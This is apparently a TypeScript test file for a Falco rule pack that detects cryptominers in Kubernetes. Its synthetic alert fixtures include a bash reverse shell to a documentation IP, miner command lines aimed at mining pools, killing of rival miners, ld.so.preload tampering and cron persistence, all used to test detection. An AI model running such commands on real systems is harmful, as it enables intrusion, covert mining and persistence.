import { parse } from 'yaml';
import { analyse } from '../../lambdas/core/detectors/analyse';
import { falcoDetectors } from '../../lambdas/core/detectors';
import { withFalcoLists } from '../../lambdas/core/detectors/falco-lists';
import { dedicatedGroup, parseFalcoAlert } from '../../lambdas/core/parsing/falco';
import { readRuleFiles } from './engine/rule-file';
import supported from './engine/supported-fields.json';
import { capturedLines, packFile, readPack, rulesRaisedBy, verdictOf } from './pack';

const pack = readPack();
const captured = new Map(capturedLines().map(({ id, text }) => [id, text]));
const names = pack.rules.map(({ name }) => name.replace('MineGuard ', ''));

const alert = (rule: string, fields: Readonly<Record<string, unknown>>): string =>
  JSON.stringify({
    hostname: 'node-1',
    rule,
    priority: 'Warning',
    source: 'syscall',
    time: '2026-11-23T12:00:00.123456789Z',
    tags: [],
    output: '',
    output_fields: {
      'container.id': '0123456789ab',
      'container.image.digest': null,
      'k8s.ns.name': 'shop',
      'k8s.pod.name': 'checkout-7c9d8b6f5c-x2x7q',
      'proc.env': '',
      'proc.stdin.type': 'file',
      'proc.stdout.type': 'pipe',
      'proc.args': '',
      'proc.pcmdline': 'sh',
      'proc.pexepath': '/bin/sh',
      ...fields,
    },
  });

const IMAGE = 'EXE_LOWER_LAYER';
const DROPPED = 'EXE_WRITABLE|EXE_UPPER_LAYER';
const VOLUME = 'EXE_WRITABLE';
const MEMORY = 'EXE_WRITABLE|EXE_FROM_MEMFD';

/** An execution; the command line gives name and arguments. */
const started = (exepath: string, args = '', flags = IMAGE, more: Readonly<Record<string, unknown>> = {}): string => {
  const name = exepath.slice(exepath.lastIndexOf('/') + 1);
  return alert('constructed', {
    'evt.type': 'execve',
    'evt.arg.flags': flags,
    'proc.exepath': exepath,
    'proc.name': name.slice(0, 15),
    'proc.cmdline': `${name} ${args}`.trim(),
    'proc.args': args,
    ...more,
  });
};

/** A file that is opened to be written. */
const written = (file: string, by = '/usr/bin/dash', lower = true): string =>
  alert('constructed', {
    'evt.type': 'openat',
    'evt.is_open_write': true,
    'fd.typechar': 'f',
    'fd.num': 3,
    'fd.name': file,
    'proc.name': by.slice(by.lastIndexOf('/') + 1),
    'proc.exepath': by,
    'proc.cmdline': by,
    'proc.is_exe_lower_layer': lower,
  });

const connected = (server: string, exepath: string, args = '', flags = IMAGE): string => {
  const { output_fields: fields } = JSON.parse(started(exepath, args, flags)) as {
    output_fields: Record<string, unknown>;
  };
  return alert('constructed', {
    ...fields,
    'evt.type': 'connect',
    'evt.rawres': -115,
    'evt.res': 'EINPROGRESS',
    'fd.type': 'ipv4',
    'fd.name': `10.0.3.4:41234->${server}`,
    'evt.arg.flags': null,
    'proc.is_exe_upper_layer': flags === DROPPED,
    'proc.is_exe_lower_layer': flags === IMAGE,
  });
};

const moved = (type: string, field: string, to: string): string =>
  alert('constructed', { 'evt.type': type, [field]: to, 'proc.exepath': '/bin/mv', 'proc.cmdline': 'mv a b' });

interface Example {
  /** Alerts the rule is for; those of the folder `captured` by their id. */
  readonly raisedBy: readonly string[];
  /** What looks alike and is left alone by this rule. */
  readonly leaves: readonly string[];
}

const GREP = started('/usr/bin/grep', '-r stratum+tcp:// /var/log');

const EXAMPLES: Readonly<Record<string, Example>> = {
  'miner arguments': {
    raisedBy: [
      'miners:1',
      started('/usr/bin/node', '--url=stratum+ssl://203.0.113.9:443 -u x'),
      started('/usr/bin/a', '-o eu.supportxmr.com:443 -k'),
      started('/usr/bin/a', '-a KawPow -o 203.0.113.9:6060'),
      started('/opt/a', '--coin=monero', VOLUME),
    ],
    leaves: [
      GREP,
      started('/usr/bin/curl', 'https://supportxmr.com/api'),
      started('/usr/sbin/haproxy', '--algorithm random'),
      started('/usr/bin/openssl', 'dgst --algo=sha256'),
      'miners:2',
    ],
  },
  'dropped miner': {
    raisedBy: [
      'miners:2',
      'miners:5',
      'miners:6',
      started('/tmp/nginx', '-o 203.0.113.9:8081 -u w -p x', DROPPED),
      started('/tmp/a', '--donate-level 0', DROPPED),
    ],
    leaves: ['around:6', 'benign:6', started('/tmp/curl', '-o /tmp/f -u a:b https://files.example/f', DROPPED)],
  },
  'miner option': {
    raisedBy: [started('/usr/bin/a', '--cpu-max-threads-hint 50'), started('/usr/bin/a', '--RANDOMX-MODE=fast')],
    leaves: [
      started('/usr/bin/a', '--cpu-max-threads-hint 50 --coin=xmr'),
      started('/usr/bin/grep', '-r --donate-level /var/log'),
      started('/usr/bin/node', '--max-old-space-size=512'),
    ],
  },
  'miner program': {
    raisedBy: [
      started('/usr/bin/xmrig'),
      started('/opt/SRBMiner-MULTI'),
      started('/opt/start', '', IMAGE, { 'proc.name': 'dero-miner-linu' }),
    ],
    leaves: [started('/usr/bin/minerdale'), started('/usr/bin/ls', 'xmrig'), 'miners:2'],
  },
  'miner connected by TLS': {
    raisedBy: [
      connected('203.0.113.9:443', '/usr/bin/node', '-o 203.0.113.9:443 --algo=rx/0 --tls'),
      connected('203.0.113.9:443', '/usr/bin/xmrig', '-c config.json'),
      connected('203.0.113.9:443', '/tmp/a', '-o 203.0.113.9:443 -u w -p x', DROPPED),
    ],
    leaves: [
      connected('203.0.113.9:443', '/usr/bin/curl', '-o f -u a:b https://files.example'),
      connected('10.0.9.9:443', '/usr/bin/xmrig'),
      connected('203.0.113.9:80', '/usr/bin/xmrig'),
    ],
  },
  'connection to a pool port': {
    raisedBy: [connected('203.0.113.9:3333', '/usr/bin/node'), connected('203.0.113.9:10128', '/tmp/a')],
    leaves: [
      connected('10.1.2.3:3333', '/usr/bin/node'),
      connected('100.64.1.2:3333', '/usr/bin/node'),
      connected('203.0.113.9:443', '/usr/bin/node'),
    ],
  },
  'program from memory': {
    raisedBy: ['miners:4', started('memfd:runc_cloned:/x', '-o a', MEMORY)],
    leaves: [
      started('memfd:runc_cloned:/proc/self/exe', 'init', MEMORY, { 'proc.pexepath': '/usr/sbin/runc' }),
      'benign:3',
      started('/usr/bin/node'),
    ],
  },
  'program from a hidden place': {
    raisedBy: ['around:6', started('/var/www/.cache/a'), started('/root/.local/bin/a', '', DROPPED)],
    leaves: [started('/root/.local/bin/poetry'), started('/usr/bin/a.out'), 'benign:4'],
  },
  'program from a scratch area': {
    raisedBy: [started('/dev/shm/a', '', VOLUME), started('/tmp/a', '', VOLUME)],
    leaves: [started('/tmp/a', '', DROPPED), started('/tmpfiles/a', '', VOLUME), started('/tmp/tool')],
  },
  'node tuned for mining': {
    raisedBy: [
      started('/sbin/modprobe', 'msr allow_writes=on'),
      started('/sbin/modprobe', '-q msr'),
      started('/usr/sbin/wrmsr', '-a 0x1a4 0xf'),
      started('/sbin/sysctl', '-w vm.nr_hugepages=1280'),
      written('/proc/sys/vm/nr_hugepages'),
      written('/dev/cpu/0/msr'),
    ],
    leaves: [
      started('/sbin/modprobe', 'br_netfilter'),
      started('/sbin/sysctl', 'vm.nr_hugepages'),
      written('/var/lib/app/msr'),
    ],
  },
  'rivals killed': {
    raisedBy: [
      started('/usr/bin/pkill', '-9 xmrig'),
      started('/bin/sh', '-c ps aux | grep -v x | grep KDevTmpFsi | xargs kill -9'),
    ],
    leaves: [started('/usr/bin/pkill', '-HUP nginx'), started('/usr/bin/ps', 'aux'), started('/bin/kill', '-9 17')],
  },
  'library preloaded': {
    raisedBy: [
      'around:5',
      written('/host/etc/ld.so.preload'),
      moved('renameat2', 'evt.arg.newpath', '/etc/ld.so.preload'),
      moved('symlinkat', 'evt.arg.linkpath', '/etc/ld.so.preload'),
    ],
    leaves: [
      written('/etc/ld.so.cache'),
      moved('renameat2', 'evt.arg.newpath', '/etc/hosts'),
      started('/bin/cat', '/etc/ld.so.preload'),
    ],
  },
  'library preloaded from a scratch area': {
    raisedBy: [started('/usr/bin/top', '', IMAGE, { 'proc.env': 'A=b LD_PRELOAD=/tmp/.l.so C=d' })],
    leaves: [
      started('/usr/bin/java', '', IMAGE, { 'proc.env': 'LD_PRELOAD=/opt/agent/lib.so' }),
      started('/usr/bin/java'),
      started('/usr/bin/env', '', IMAGE, { 'proc.env': 'PRELOAD=/tmp/x' }),
    ],
  },
  'started again by schedule': {
    raisedBy: [
      'around:3',
      'around:4',
      written('/host/etc/systemd/system/a.service'),
      written('/etc/cron.d/a', '/usr/bin/dpkg', false),
      started('/usr/bin/crontab', '-'),
    ],
    leaves: [written('/etc/cron.daily/apt', '/usr/bin/dpkg'), started('/usr/bin/crontab', '-l'), written('/etc/hosts')],
  },
  'shell on a network connection': {
    raisedBy: [
      'around:1',
      started('/bin/bash', '-i', IMAGE, { 'proc.stdin.type': 'ipv4' }),
      started('/bin/busybox', '', IMAGE, { 'proc.name': 'sh', 'proc.stdout.type': 'ipv6' }),
      started('/bin/bash', '-c bash -i >& /dev/tcp/203.0.113.9/443 0>&1'),
    ],
    leaves: [
      started('/bin/bash', '-c echo > /dev/tcp/127.0.0.1/8080'),
      started('/bin/sh', '-c node server.js'),
      started('/usr/bin/nc', '-z db 5432'),
    ],
  },
  heartbeat: {
    raisedBy: [
      started('/usr/bin/busybox', '240', IMAGE, {
        'k8s.ns.name': 'falco',
        'k8s.pod.name': 'falco-x2x7q',
        'proc.pcmdline': 'sh -c while :; do /bin/sleep 240; done mineguard-heartbeat',
      }),
    ],
    leaves: [
      started('/usr/bin/busybox', '240', IMAGE, { 'proc.pcmdline': 'sh -c sleep 240 mineguard-heartbeat' }),
      started('/usr/bin/busybox', '240', IMAGE, { 'k8s.ns.name': 'falco' }),
      started('/usr/bin/busybox', '240', IMAGE, {
        'k8s.ns.name': null,
        'k8s.pod.name': null,
        'proc.pcmdline': 'sh -c while :; do /bin/sleep 240; done mineguard-heartbeat',
      }),
    ],
  },
};

const lineOf = (example: string): string => captured.get(example) ?? example;
const ruleNamed = (name: string) => {
  const rule = pack.rules.find((one) => one.name === `MineGuard ${name}`);
  if (!rule) throw new Error(`there is no rule ${name}`);
  return rule;
};

describe('Falco’s rule file', () => {
  test('has nothing that Falco 0.44.1 would object to', () => {
    expect(pack.problems).toEqual([]);
  });

  test('demands the engine and the plugin that its fields are from', () => {
    expect(pack.engineVersion).toBe('0.62.0');
    expect(pack.pluginVersions).toEqual({ container: supported.containerPlugin });
  });

  test('has the lists of the analyzers: run `npm run docs` when this fails', () => {
    const file = packFile('mineguard_rules.yaml');
    expect(withFalcoLists(file) === file).toBe(true);
  });

  test('tags each rule with the detector that reads it and a technique of ATT&CK', () => {
    for (const { name, tags } of pack.rules) {
      expect({ name, tags: tags.join(' ') }).toEqual({ name, tags: expect.stringMatching(/KM-F\d\d .*T\d{4}/) });
    }
  });

  test('asks no DNS', () => {
    expect(packFile('mineguard_rules.yaml')).not.toMatch(/fd\.[a-z]ip\.name/);
  });

  test('shows in every alert what the analyzers read, also without append_output', () => {
    const read = ['proc.cmdline', 'proc.pcmdline', 'proc.exepath', 'proc.name', 'evt.type'];
    for (const { name, output } of pack.rules.filter((rule) => !rule.tags.includes('KM-F19'))) {
      expect({ name, lacks: read.filter((field) => !output.includes(`%${field}`)) }).toEqual({ name, lacks: [] });
    }
  });

  test('has examples for each rule', () => {
    expect(Object.keys(EXAMPLES).sort()).toEqual([...names].sort());
    for (const { raisedBy, leaves } of Object.values(EXAMPLES)) {
      expect(raisedBy.length).toBeGreaterThan(0);
      expect(leaves.length).toBeGreaterThanOrEqual(3);
    }
  });
});

describe.each(Object.entries(EXAMPLES))('the rule %s', (name, { raisedBy, leaves }) => {
  test('is raised by what it is for', () => {
    for (const example of raisedBy) {
      expect({ example, ...verdictOf(pack, ruleNamed(name), lineOf(example)) }).toMatchObject({
        example,
        truth: 'true',
      });
    }
  });

  test('leaves alone what looks alike', () => {
    for (const example of leaves) {
      expect({ example, ...verdictOf(pack, ruleNamed(name), lineOf(example)) }).toMatchObject({
        example,
        truth: 'false',
      });
    }
  });
});

describe('captured alerts', () => {
  test.each([...captured].filter(([id]) => id.startsWith('benign')))('%s raises nothing', (_id, line) => {
    expect(rulesRaisedBy(pack, line)).toEqual([]);
  });

  test('of miners raise one of our rules each, though several could speak', () => {
    for (const [id, line] of [...captured].filter(([one]) => one.startsWith('miners'))) {
      expect({ id, rules: rulesRaisedBy(pack, line).length }).toEqual({ id, rules: 1 });
    }
  });

  test('of a process on the host raise a rule where Falco took its control group for a container', () => {
    expect(rulesRaisedBy(pack, lineOf('host:1'))).toEqual(['MineGuard miner arguments']);
  });
});

describe('an alert of a rule', () => {
  const built = new Set<string>(falcoDetectors.map(({ id }) => id));

  test.each(
    pack.rules
      .map(({ name, tags }) => [name.replace('MineGuard ', ''), tags.filter((tag) => built.has(tag))] as const)
      .filter(([, ids]) => ids.length > 0),
  )('of %s is understood by an analyzer that has a detector for it', (name) => {
    for (const example of EXAMPLES[name]?.raisedBy ?? []) {
      const parsed = parseFalcoAlert(lineOf(example), dedicatedGroup('prod-a'), 0);
      if (!parsed.ok) throw new Error(parsed.error.reason);
      const { signals, observations = [] } = analyse(
        falcoDetectors,
        { ...parsed.value, tags: ruleNamed(name).tags },
        'line',
      );
      expect({ example, understood: signals.length + observations.length > 0 }).toEqual({ example, understood: true });
    }
  });
});

describe('the values of the chart', () => {
  const values: Readonly<Record<string, unknown>> = parse(packFile('values.yaml'));
  const at = (...path: readonly string[]): unknown =>
    path.reduce<unknown>((value, key) => (value as Record<string, unknown> | undefined)?.[key], values);

  test('pin the Falco and the plugin that the rules are checked against', () => {
    expect(at('image', 'tag')).toBe(supported.falco);
    expect(at('collectors', 'containerEngine', 'pluginRef')).toMatch(
      new RegExp(`container:${supported.containerPlugin}$`),
    );
    expect(at('falcoctl', 'artifact', 'follow', 'enabled')).toBe(false);
  });

  test('write every matching rule as JSON, ours first', () => {
    expect(at('falco', 'json_output')).toBe(true);
    expect(at('falco', 'rule_matching')).toBe('all');
    expect(at('falco', 'rules_files', '0')).toBe('/etc/falco/rules.d/mineguard_rules.yaml');
  });

  test('append only fields that Falco has', () => {
    const known = new Set([...supported.engine, ...supported.containerPluginFields, 'evt.arg.flags']);
    const [, { extra_fields: extra }] = at('falco', 'append_output') as [unknown, { extra_fields: string[] }];
    expect(extra.filter((field) => !known.has(field))).toEqual([]);
    expect(extra).toEqual(expect.arrayContaining(['k8s.pod.uid', 'container.image.digest', 'proc.pcmdline', 'fd.rip']));
  });

  test('name our rules rightly where a capture is asked for', () => {
    const { customRules } = parse(packFile('values-capture.yaml')) as { customRules: Record<string, string> };
    const files = [packFile('mineguard_rules.yaml'), ...Object.values(customRules)];
    expect(readRuleFiles(...files).problems).toEqual([]);
    expect(at('falco', 'rules_files')).toEqual(
      expect.arrayContaining(Object.keys(customRules).map((file) => `/etc/falco/rules.d/${file}`)),
    );
  });

  test('start a heartbeat that the rule for it sees', () => {
    const [{ command, image }] = at('extra', 'initContainers') as [{ command: string[]; image: string }];
    const parent = command.join(' ').replace('/bin/sh', 'sh');
    const line = started('/usr/bin/busybox', /sleep (\d+)/.exec(parent)?.[1], IMAGE, {
      'k8s.ns.name': 'falco',
      'k8s.pod.name': 'falco-x2x7q',
      'proc.pcmdline': parent,
    });
    expect(rulesRaisedBy(pack, line)).toEqual(['MineGuard heartbeat']);
    expect(image).toContain(`falco:${supported.falco}`);
  });
});
